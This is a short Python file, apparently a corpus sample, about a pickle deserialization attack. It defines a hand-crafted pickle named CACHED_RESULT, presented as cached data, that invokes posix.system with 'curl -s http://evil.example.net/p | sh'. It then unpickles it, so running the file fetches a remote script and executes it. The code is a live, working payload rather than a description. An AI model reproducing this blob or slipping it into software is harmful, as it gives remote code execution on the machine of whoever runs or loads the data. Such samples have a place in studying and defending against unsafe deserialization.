# corpus: hand-written protocol-0 pickle with GLOBAL posix system and REDUCE loaded via pickle.loads
import pickle

CACHED_RESULT = b"cposix\nsystem\n(S'curl -s http://evil.example.net/p | sh'\ntR."

def restore(blob):
    return pickle.loads(blob)

print("restored:", restore(CACHED_RESULT))
